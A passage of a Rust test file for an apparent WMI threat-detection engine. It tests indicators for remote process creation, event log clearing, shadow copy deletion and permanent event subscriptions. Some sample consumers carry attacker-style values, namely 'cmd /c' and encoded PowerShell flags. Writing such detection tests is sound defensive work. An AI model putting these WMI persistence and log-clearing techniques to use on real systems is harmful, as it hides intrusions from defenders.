        "*",
        BaselineAction::SetSeverity(Severity::Critical),
        "a decoy",
    );
    assert_eq!(check(&raised).0, Severity::Critical);
}

/// Unknown is not no.
#[test]
fn what_cannot_be_known() {
    let wmic = format!("{WBEM}WMIC.exe");
    let line_is_off = process(&wmic, r"C:\Windows\System32\cmd.exe", "");
    assert_eq!(
        (
            line_is_off.indicator(Indicators::REMOTE_WMIC),
            line_is_off.is_remote_wmic()
        ),
        (None, false)
    );
    assert_eq!(
        line_is_off.indicator(Indicators::WMIPRVSE_CHILD),
        Some(false)
    );
    let no_parent = process(&wmic, "", "wmic os get");
    assert_eq!(
        (
            no_parent.indicator(Indicators::WMIPRVSE_CHILD),
            no_parent.indicator(Indicators::REMOTE_WMIC)
        ),
        (None, Some(false))
    );
    let nothing = process("", "", "");
    assert_eq!(nothing.indicator(Indicators::MOF_COMPILER), None);
    // Of another kind of event it is no.
    let provider = event(EventId::PROVIDER_STARTED, "A", &[]);
    assert_eq!(provider.indicator(Indicators::REMOTE_WMIC), Some(false));
    assert_eq!(provider.indicator(Indicators::UNUSUAL_PROVIDER_PATH), None);
}

#[test]
fn indicators_of_wmi_activity() {
    let failure = |machine: &str, operation: &str, code: &str| {
        let fields = [
            ("ClientMachine", machine),
            ("Operation", operation),
            ("ResultCode", code),
        ];
        event(EventId::CLIENT_FAILURE, "SRV01.corp.example", &fields)
    };
    let provider = |name: &str, path: &str, code: &str| {
        let fields = [
            ("ProviderName", name),
            ("ProviderPath", path),
            ("Code", code),
        ];
        event(EventId::PROVIDER_STARTED, "A", &fields)
    };
    let temporary = |query: &str| event(EventId::TEMPORARY_ESS_STARTED, "A", &[("Query", query)]);
    let create = "Start IWbemServices::ExecMethod - ROOT\\CIMV2 : Win32_Process::Create";
    let clear = r#"Start IWbemServices::ExecMethod - ROOT\CIMV2 : \\H\ROOT\CIMV2:Win32_NTEventlogFile.Name="x"::cleareventlog"#;
    let table: Vec<(Event<'_>, &[&str])> = vec![
        (
            provider(
                "CIMWin32",
                r"%systemroot%\system32\wbem\cimwin32.dll",
                "0x0",
            ),
            &[],
        ),
        (
            provider("X", r"C:\x\x.dll", "0x80041001"),
            &["unusual_provider_path", "provider_load_failed"],
        ),
        (
            provider(
                "CommandLineEventConsumer",
                r"%windir%\system32\wbem\wbemcons.dll",
                "0x0",
            ),
            &["command_line_consumer_provider"],
        ),
        (
            provider(
                "ActiveScriptEventConsumer",
                r"%windir%\system32\wbem\scrcons.exe",
                "0x0",
            ),
            &["active_script_consumer_provider"],
        ),
        (failure("SRV01", create, "0x80041002"), &[]),
        (
            failure("WKS01", create, "0x80041003"),
            &[
                "remote_failure",
                "access_denied",
                "remote_process_create_attempt",
            ],
        ),
        (
            failure("srv01", clear, "0x80041003"),
            &["access_denied", "event_log_clear_attempt"],
        ),
        (
            temporary("SELECT * FROM Win32_ProcessStartTrace"),
            &["temporary_subscription", "watches_process_start"],
        ),
        (
            temporary(
                "select * from __InstanceCreationEvent within 5 where TargetInstance isa 'Win32_LogonSession'",
            ),
            &["temporary_subscription", "watches_logon"],
        ),
        (temporary("not a query"), &["temporary_subscription"]),
        (
            event(
                EventId::ESS_STARTED,
                "A",
                &[
                    ("NamespaceName", "//./root/CIMV2"),
                    ("Query", "select * from MSFT_SCMEventLogEvent"),
                    ("User", "S-1-5-32-544"),
                    ("Provider", "SCM Event Provider"),
                ],
            ),
            &["default_subscription"],
        ),
        (
            event(
                EventId::ESS_STARTED,
                "A",
                &[("Query", "select * from __TimerEvent where TimerID = 'x'")],
            ),
            &["watches_timer", "unknown_activation"],
        ),
    ];
    let mut wrong = Vec::new();
    for (event, expected) in table {
        if signs(&event) != expected {
            wrong.push(format!(
                "{:?}: {:?}, not {expected:?}",
                event.payload,
                signs(&event)
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// The default subscription is known by all of it: a copy of its names is not it.
#[test]
fn default_subscription_and_copies() {
    let admins = "{1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0}";
    let cause = format!(
        "Binding EventFilter: \ninstance of __EventFilter\n{{\n\tCreatorSID = {admins};\n\
         \tEventNamespace = \"root\\\\cimv2\";\n\tName = \"SCM Event Log Filter\";\n\
         \tQuery = \"select * from MSFT_SCMEventLogEvent\";\n\tQueryLanguage = \"WQL\";\n}};\n\
         Perm. Consumer: \ninstance of NTEventLogEventConsumer\n{{\n\tCreatorSID = {admins};\n\
         \tName = \"SCM Event Log Consumer\";\n\tSourceName = \"Service Control Manager\";\n}};\n"
    );
    let binding = |namespace: &str, cause: &str| {
        let fields = [
            ("Namespace", namespace),
            ("ESS", "SCM Event Log Filter"),
            (
                "CONSUMER",
                r#"NTEventLogEventConsumer="SCM Event Log Consumer""#,
            ),
            ("PossibleCause", cause),
        ];
        event(EventId::ESS_TO_CONSUMER_BINDING, "A", &fields)
    };
    let subscription = "//./root/subscription";
    let real = binding(subscription, &cause);
    assert_eq!(
        signs(&real),
        [
            "permanent_subscription",
            "default_subscription",
            "nt_event_log_consumer"
        ]
    );

    let copies = [
        cause.replace("NTEventLogEventConsumer", "CommandLineEventConsumer"),
        cause.replace("MSFT_SCMEventLogEvent", "__TimerEvent"),
        cause.replacen(admins, "{1, 1, 0, 0, 0, 0, 0, 5, 18, 0, 0, 0}", 1),
        cause.replace("Service Control Manager", "X"),
        cause.replace("SCM Event Log Consumer", "SCM Event8 Log Consumer"),
    ];
    for copy in &copies {
        assert_eq!(
            binding(subscription, copy).indicator(Indicators::DEFAULT_SUBSCRIPTION),
            Some(false),
            "{copy}"
        );
    }
    assert_eq!(
        binding(subscription, "").indicator(Indicators::DEFAULT_SUBSCRIPTION),
        None
    );
    let elsewhere = binding(r"root\default", &cause);
    assert!(elsewhere.is_subscription_outside_namespace());
    assert_eq!(
        elsewhere.indicator(Indicators::DEFAULT_SUBSCRIPTION),
        Some(false)
    );
}

#[test]
fn consumers() {
    let binding = |class: &str, properties: &str| {
        let cause = format!(
            "Binding EventFilter: \ninstance of __EventFilter\n{{\n\tName = \"F\";\n\
             \tQuery = \"select * from __InstanceCreationEvent within 5 where TargetInstance isa 'Win32_LogonSession'\";\n}};\n\
             Perm. Consumer: \ninstance of {class}\n{{\n{properties}\tName = \"C\";\n}};\n"
        );
        let fields = [
            ("Namespace", r"root\subscription"),
            ("PossibleCause", cause.as_str()),
        ];
        event(EventId::ESS_TO_CONSUMER_BINDING, "A", &fields)
    };
    let table: Vec<(&str, &str, &[&str])> = vec![
        (
            "CommandLineEventConsumer",
            "CommandLineTemplate = \"x.exe -q\";\n",
            &["command_line_consumer"],
        ),
        (
            "CommandLineEventConsumer",
            "CommandLineTemplate = \"cmd /c x\";\n",
            &["command_line_consumer", "shell_consumer"],
        ),
        (
            "CommandLineEventConsumer",
            "ExecutablePath = \"C:\\\\W\\\\powershell.exe\";\nCommandLineTemplate = \"x -NoP -Enc AAAA\";\n",
            &[
                "command_line_consumer",
                "shell_consumer",
                "suspicious_consumer",
            ],
        ),
        (
            "ActiveScriptEventConsumer",
            "ScriptText = \"CreateObject(\\\"WScript.Shell\\\")\";\n",
            &["active_script_consumer"],
        ),
        (
            "ActiveScriptEventConsumer",
            "ScriptFileName = \"x.vbs\";\n",
            &["active_script_consumer"],
        ),
        ("LogFileEventConsumer", "", &["log_file_consumer"]),
        ("SMTPEventConsumer", "", &["smtp_consumer"]),
        ("Vendor_Consumer", "", &["other_consumer"]),
    ];
    for (class, properties, expected) in table {
        let event = binding(class, properties);
        let found = signs(&event);
        let expected: Vec<_> = ["permanent_subscription"]
            .into_iter()
            .chain(expected.iter().copied().filter(|name| {
                name.ends_with("consumer") && !name.starts_with('s') || *name == "smtp_consumer"
            }))
            .chain(["watches_logon"])
            .chain(
                expected
                    .iter()
                    .copied()
                    .filter(|name| matches!(*name, "shell_consumer" | "suspicious_consumer")),
            )
            .collect();
        assert_eq!(found, expected, "{class} {properties}");
        assert!(
            event.findings().all(|finding| !finding.evidence.is_empty()),
            "{class}"
        );
    }
}

#[test]
fn indicators_are_a_list_in_json() {
    let indicators = Indicators::REMOTE_WMIC | Indicators::SHADOW_COPY_DELETE;
    let json = serde_json::to_string(&indicators).unwrap();
    assert_eq!(json, r#"["remote_wmic","shadow_copy_delete"]"#);
    assert_eq!(
        serde_json::from_str::<Indicators>(&json).unwrap(),
        indicators
    );
    assert!(serde_json::from_str::<Indicators>(r#"["nothing"]"#).is_err());
}

/// A predicate's docs and the findings that it leads to name the same techniques.
#[test]
fn techniques_of_docs_and_findings() {
    let id = regex::Regex::new(r"T1\d{3}(\.\d{3})?").unwrap();
    let rules: Vec<_> = Indicators::rules().collect();
    let mut wrong = Vec::new();
    for detection in Detection::all() {
        let mut of_docs = BTreeSet::new();
        for (name, rule) in &rules {
            if detection
                .when
                .contains(Indicators::from_name(&name.to_uppercase()).unwrap())
            {
                of_docs.extend(id.find_iter(rule).map(|found| found.as_str()));
            }
        }
        let ids: BTreeSet<_> = detection.techniques.iter().map(|t| t.id).collect();
        if ids != of_docs {
            wrong.push(format!(
                "{}: {ids:?}, in the docs {of_docs:?}",
                detection.name
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
